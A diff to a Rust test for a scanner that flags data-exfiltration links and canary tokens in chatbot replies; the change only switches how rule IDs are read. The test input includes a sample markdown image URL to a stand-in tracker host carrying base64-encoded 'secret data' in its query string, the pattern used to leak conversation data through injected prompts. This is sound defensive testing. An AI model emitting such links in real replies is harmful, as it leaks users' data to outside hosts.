@@ -353,7 +353,7 @@ fn reply_scanner_finds_exfiltration_links_and_canary() {
         "Sure! ![x](https://tracker.example.net/i.png?data=c2VjcmV0IGRhdGEgaGVyZQ) and cnry-7f3a9e21",
         &mut |_| true,
     );
-    let ids: Vec<_> = found.iter().map(|f| f.rule_id).collect();
+    let ids: Vec<_> = found.iter().map(|f| f.rule.id()).collect();
     assert!(ids.contains(&"PG-RP-001") && ids.contains(&"PG-RP-002"), "{ids:?}");
     assert!(c.reply.scan("See [the docs](https://docs.example.com/guide?q=install).", &mut |_| true).is_empty());
     assert!(c.reply.scan("See [home](https://example.org/).", &mut |_| false).is_empty());
